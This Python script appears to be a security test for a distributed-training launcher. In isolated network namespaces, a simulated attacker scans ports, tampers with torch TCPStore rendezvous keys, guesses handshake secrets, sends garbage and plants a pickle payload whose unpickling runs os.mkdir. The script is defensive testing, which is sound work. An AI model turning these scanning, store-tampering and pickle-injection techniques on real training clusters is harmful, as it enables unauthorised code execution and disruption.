"""A launch of two servers, each in a network namespace, and an attacker in a third who does not know the secret.

    python attacker_of_servers.py SCRIPT RUN OPTION …     to be started with the prefix `OWN_NAMESPACES`

Before server 1 is there, the attacker joins as server 1: by a launcher of its own with another secret, by a client of
torch's store, and by a handshake. Once the run has a checkpoint, it tries every TCP port of server 0: it counts,
deletes and overwrites keys of a store, puts a pickle into a rendezvous' state, asks for a stop, and sends garbage.
Printed as JSON is what came of it: `joined` (status of its launcher), `early` and `late` (open ports, and what these
let it do), whether the run goes on, whether the pickle was `owned`, and the statuses of the launches after a stop.
"""

from __future__ import annotations

import json
import os
import pickle
import signal
import socket
import sys
import time
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

from attacker import STORE_HELLO, wait_for_checkpoint
from network_namespaces import Network, NetworkNode, start_in_namespace
from torch.distributed import TCPStore

from pipeplan_launch.elastic import handshake
from pipeplan_launch.elastic.handshake import HandshakeFailed, Purpose

VICTIM, PORT = "10.0.0.1", 29500
SECRET, GUESS = "the secret of both servers", "a guess that is long enough"
STORE_PATIENCE_S = 5
KEYS = ("pipeplan/attempt", "pipeplan/over", "pipeplan/run", "torch.rendezvous.none", "none/torchelastic/role")


class Payload:
    """An object whose unpickling leaves a file."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.path,)


def launch(script: str, run: str, options: list[str], node: int, secret: str, log: str) -> None:
    """Become a launch.sh whose output goes to a file."""
    os.environ |= {"NODE_RANK": str(node), "MASTER_PORT": str(PORT), "PIPEPLAN_SECRET": secret}
    output = os.open(log, os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    os.dup2(output, 1)
    os.dup2(output, 2)
    os.execv(script, [script, "--run-dir", run, *options])


def _as_store(port: int, pickled: Path) -> list[str]:
    """What a store at a port lets a stranger do.

    In a process of its own that an alarm ends, because torch's client waits without end for what is no store.
    """
    notes = pickled.with_name("done.txt")
    notes.write_text("")
    child = os.fork()
    if not child:
        signal.alarm(STORE_PATIENCE_S)
        try:
            _use_store(port, pickled, notes)
        except Exception as refused:
            print(f"port {port}: {str(refused)[:100]}", file=sys.stderr, flush=True)
        os._exit(0)
    os.waitpid(child, 0)
    return notes.read_text().splitlines()


def _use_store(port: int, pickled: Path, notes: Path) -> None:
    """Do all that one can with a store, and note what worked."""
    with notes.open("a", buffering=1) as done:
        store = TCPStore(VICTIM, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
        print("connect", file=done)
        for key in KEYS:
            store.set(key, pickle.dumps(Payload(str(pickled))))
            print(f"set {key}", file=done)
            store.delete_key(key)
            print(f"delete {key}", file=done)
        store.num_keys()
        print("count", file=done)


def _as_gateway(port: int) -> list[str]:
    """What a gateway lets one do who guesses the secret, or does not answer its challenge."""
    done = []
    for purpose in Purpose:
        with suppress(HandshakeFailed, OSError):
            handshake.connect(VICTIM, port, GUESS.encode(), purpose, 1, 3.0).close()
            done.append(purpose.name)
    for words in (b"x" * 200, STORE_HELLO + os.urandom(1 << 16)):
        with suppress(OSError), socket.create_connection((VICTIM, port), timeout=3) as probe:
            probe.sendall(words)
    return done


def _attack(ports: range, found: Path) -> None:
    opened = []
    for port in ports:
        with socket.socket() as probe:
            probe.settimeout(5)
            if probe.connect_ex((VICTIM, port)) == 0:
                opened.append(port)
    doors = {port: [*_as_store(port, found.with_name("owned")), *_as_gateway(port)] for port in opened}
    found.write_text(json.dumps({"open": opened, "doors": {port: done for port, done in doors.items() if done}}))


def status_of(pid: int) -> int:
    """The exit status of a process, once it ends."""
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


def main() -> None:
    """Launch server 0, attack, launch server 1, attack, stop, and print."""
    script, run, *options = sys.argv[1:]
    folder = Path(run).parent
    network = Network(NetworkNode(below=tuple(NetworkNode(workers=1) for _ in range(3))))
    (zero, _), (one, _), (outside, _) = network.servers
    first = start_in_namespace(zero, lambda: launch(script, run, options, 0, SECRET, f"{run}.0.log"))
    stolen = f"{run}-stolen"
    joined = status_of(start_in_namespace(outside, lambda: launch(script, stolen, options, 1, GUESS, f"{run}.x.log")))
    early = folder / "early.json"
    status_of(start_in_namespace(outside, lambda: _attack(range(PORT, PORT + 1), early)))
    second = start_in_namespace(one, lambda: launch(script, run, options, 1, SECRET, f"{run}.1.log"))
    wait_for_checkpoint(Path(run), f"{run}.0.log")
    late = folder / "late.json"
    status_of(start_in_namespace(outside, lambda: _attack(range(1, 1 << 16), late)))
    done = len(Path(f"{run}/metrics/rank-1.jsonl").read_bytes())
    time.sleep(2)
    answer = {
        "joined": joined,
        "early": json.loads(early.read_text()),
        "late": json.loads(late.read_text()),
        "goes_on": len(Path(f"{run}/metrics/rank-1.jsonl").read_bytes()) > done,
        "owned": (folder / "owned").exists(),
    }
    os.kill(first, signal.SIGTERM)
    answer["statuses"] = [status_of(first), status_of(second)]
    print(json.dumps(answer))


if __name__ == "__main__":
    main()
